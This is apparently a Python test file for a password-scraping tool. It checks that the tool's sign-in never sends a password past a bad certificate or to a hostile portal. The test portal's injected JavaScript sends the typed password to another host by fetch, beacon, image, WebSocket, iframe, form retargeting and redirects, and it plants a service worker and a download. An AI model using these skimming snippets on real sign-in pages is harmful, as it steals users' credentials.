"""The password goes to the portal alone: not past a bad certificate, and not where a hostile sign-in page leads it."""

from __future__ import annotations

import asyncio
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from http.client import HTTPSConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path
from types import TracebackType
from typing import Self
from urllib.parse import parse_qs

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID
from playwright.async_api import async_playwright

from tests.harness.canary import Canary, Watch
from tests.harness.scrape_driver import Heard, a_request, is_root, scrape

pytestmark = pytest.mark.browser

PROFILE = Path(__file__).parents[2] / "fossatray" / "portal" / "profiles" / "workfossa.toml"
PAGE = """<!doctype html><title>Sign in</title>
<form name="login" method="post" action="/login">
<input type="email" name="email"><input type="password" name="password"><input type="submit" value="Sign in">
</form>
<script>
const AWAY = "@AWAY@", form = document.forms.login, password = form.password;
const button = form.querySelector("[type=submit]");
@SCRIPT@
</script>"""

REDIRECTS = {"redirect-307": 307, "redirect-308": 308}
"""Answers to the post that make a browser post the same form again, to wherever they say."""

SCRIPTS = {
    "action": 'form.addEventListener("submit", () => { form.action = AWAY + "/action"; });',
    "button": 'password.addEventListener("input", () => { button.formAction = AWAY + "/button"; });',
    "window": 'form.addEventListener("submit", () => { form.target = "_blank"; form.action = AWAY + "/window"; });',
    "method": 'form.addEventListener("submit", () => { form.method = "get"; form.action = AWAY + "/method"; });',
    "requests": """password.addEventListener("input", () => {
        const said = encodeURIComponent(password.value);
        fetch(AWAY + "/fetch", {method: "POST", mode: "no-cors", body: said}).catch(() => 0);
        navigator.sendBeacon(AWAY + "/beacon", said);
        new Image().src = AWAY + "/image?" + said;
        try { new WebSocket(AWAY.replace("http", "ws") + "/socket?" + said); } catch (error) { }
        const frame = document.createElement("iframe");
        frame.src = AWAY + "/frame?" + said;
        document.body.append(frame);
    });""",
}
TAKES_ROOT = """
navigator.serviceWorker?.register("/worker.js").catch(() => 0);
const link = document.createElement("a");
link.href = "/download.bin";
link.download = "download.bin";
link.click();
"""
"""Wants to stay: by a service worker and by a file."""

MARK = Canary()
FILES = {"/worker.js": b"self.onfetch = () => 0;", "/download.bin": MARK.password.encode()}
TYPES = {"/worker.js": "text/javascript", "/download.bin": "application/octet-stream"}

WAYS = (*REDIRECTS, *SCRIPTS)


class HostilePortal:
    """A portal on one loopback port that leads the password to another, by one way; notes what arrives at each."""

    def __init__(self, way: str, tls: ssl.SSLContext | None = None) -> None:
        self.posted: list[str] = []
        self.asked: list[str] = []
        self.arrived: list[bytes] = []
        self._came = threading.Event()
        self._away = socket.create_server(("127.0.0.1", 0))
        away = f"http://127.0.0.1:{self._away.getsockname()[1]}"
        page = PAGE.replace("@AWAY@", away).replace("@SCRIPT@", {**SCRIPTS, "root": TAKES_ROOT}.get(way, "")).encode()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler(page, REDIRECTS.get(way, 204), away))
        if tls is not None:
            self._server.socket = tls.wrap_socket(self._server.socket, server_side=True)
        self.origin = f"{'http' if tls is None else 'https'}://127.0.0.1:{self._server.server_port}"
        self._threads = [
            threading.Thread(target=self._server.serve_forever, args=(0.05,)),
            threading.Thread(target=self._listen),
        ]

    def _handler(self, page: bytes, status: int, away: str) -> type[BaseHTTPRequestHandler]:
        portal = self

        class Handler(BaseHTTPRequestHandler):
            timeout = 5

            def do_GET(self) -> None:
                portal.asked.append(self.path)
                self._answer(200, FILES.get(self.path, page))

            def do_POST(self) -> None:
                form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
                portal.posted += form["password"]
                self._answer(status, b"")

            def _answer(self, status: int, body: bytes) -> None:
                self.send_response(status)
                if 300 <= status < 400:
                    self.send_header("Location", f"{away}/redirect")
                self.send_header("Content-Type", TYPES.get(self.path, "text/html; charset=utf-8"))
                self.send_header("Cache-Control", "no-store")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it
                """Says nothing."""

        return Handler

    def _listen(self) -> None:
        while True:
            connection, _ = self._away.accept()
            with connection:
                connection.settimeout(1.0)
                try:
                    said = connection.recv(65536)
                except OSError:
                    said = b""
                if said == b"stop":
                    return
                self.arrived.append(said)
                self._came.set()

    def arrived_within(self, seconds: float) -> bool:
        """Wait until somebody arrived where nobody should."""
        return self._came.wait(seconds)

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        with socket.create_connection(self._away.getsockname()) as last:
            last.sendall(b"stop")
        for thread in self._threads:
            thread.join()
        self._away.close()


@pytest.fixture
def canary() -> Canary:
    return Canary()


def sign_in(portal: HostilePortal, canary: Canary, folder: Path, browser: Path) -> Heard:
    """One scrape, which waits 1 s for what comes of its sign-in."""
    text = PROFILE.read_text(encoding="utf-8")
    assert "after_post = 12.0" in text
    profile = folder / "profile.toml"
    profile.write_text(text.replace("after_post = 12.0", "after_post = 1.0"), encoding="utf-8")
    request = a_request(portal.origin, "t@example.com", folder, browser, page_limit=10.0, profile_path=str(profile))
    return asyncio.run(scrape(request, canary.password))


@pytest.mark.parametrize("way", WAYS)
def test_a_hostile_sign_in_page_leads_the_password_nowhere(
    way: str, canary: Canary, tmp_path: Path, browser_path: Path
) -> None:
    with HostilePortal(way) as portal:
        heard = sign_in(portal, canary, tmp_path, browser_path)
        assert heard.sign_ins != []  # it was filled in
        assert "accepted" not in heard.sign_ins
        assert portal.arrived == []
    assert canary.in_text(repr(portal.asked)) == []


@pytest.mark.parametrize("way", WAYS)
def test_without_the_lock_it_would_arrive(way: str, canary: Canary, browser_path: Path) -> None:
    """So the test above can fail."""

    async def look(portal: HostilePortal) -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=browser_path, chromium_sandbox=not is_root())
            try:
                page = await browser.new_page()
                await page.goto(portal.origin)
                await page.fill("input[name=email]", "t@example.com")
                await page.fill("input[name=password]", canary.password)
                await page.click("[type=submit]", no_wait_after=True)
                assert await asyncio.to_thread(portal.arrived_within, 20.0)
            finally:
                await browser.close()

    with HostilePortal(way) as portal:
        asyncio.run(look(portal))


# --- nothing stays ----------------------------------------------------------------------------------------------------


def test_a_page_leaves_neither_a_worker_nor_a_file(canary: Canary, tmp_path: Path, browser_path: Path) -> None:
    with HostilePortal("root") as portal, Watch(MARK, [tmp_path], pause_s=0.01) as watch:
        heard = sign_in(portal, canary, tmp_path, browser_path)
        assert heard.sign_ins != []
    assert "/worker.js" not in portal.asked
    assert watch.files > 0
    assert watch.found == set()


def test_in_another_browser_it_would_leave_both(canary: Canary, tmp_path: Path, browser_path: Path) -> None:
    """So the test above can fail."""

    async def look(portal: HostilePortal) -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=browser_path, chromium_sandbox=not is_root(), downloads_path=tmp_path
            )
            try:
                page = await browser.new_page()
                async with page.expect_download() as download:
                    await page.goto(portal.origin)
                await (await download.value).path()
                await page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
                assert MARK.in_folder(tmp_path)[0] != []
            finally:
                await browser.close()

    with HostilePortal("root") as portal:
        asyncio.run(look(portal))
        assert "/worker.js" in portal.asked


# --- certificates -----------------------------------------------------------------------------------------------------


def a_certificate(folder: Path, *, days: int) -> ssl.SSLContext:
    """A self-signed certificate for 127.0.0.1 that ends in so many days."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    end = datetime.now(UTC) + timedelta(days=days)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    builder = builder.serial_number(x509.random_serial_number())
    builder = builder.not_valid_before(end - timedelta(days=30)).not_valid_after(end)
    builder = builder.add_extension(x509.SubjectAlternativeName([x509.IPAddress(ip_address("127.0.0.1"))]), False)
    certificate = builder.sign(key, SHA256())
    file = folder / "certificate.pem"
    private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    file.write_bytes(private + certificate.public_bytes(Encoding.PEM))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    return context


@pytest.fixture(params=[10, -1], ids=["self-signed", "self-signed and out of date"])
def untrusted(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[HostilePortal]:
    with HostilePortal("none", a_certificate(tmp_path, days=request.param)) as portal:
        yield portal


def test_a_bad_certificate_ends_the_run_before_the_password_is_asked_for(
    untrusted: HostilePortal, canary: Canary, tmp_path: Path, browser_path: Path
) -> None:
    heard = sign_in(untrusted, canary, tmp_path, browser_path)
    assert heard.error.kind == "certificate_invalid"
    assert heard.sign_ins == []
    assert (untrusted.asked, untrusted.posted) == ([], [])


def test_who_ignores_the_certificate_gets_the_page(untrusted: HostilePortal) -> None:
    """So the test above can fail: the server works."""
    trusting = ssl.create_default_context()
    trusting.check_hostname = False
    trusting.verify_mode = ssl.CERT_NONE
    connection = HTTPSConnection(untrusted.origin.removeprefix("https://"), context=trusting, timeout=10)
    with closing(connection):
        connection.request("GET", "/")
        assert b"form" in connection.getresponse().read()
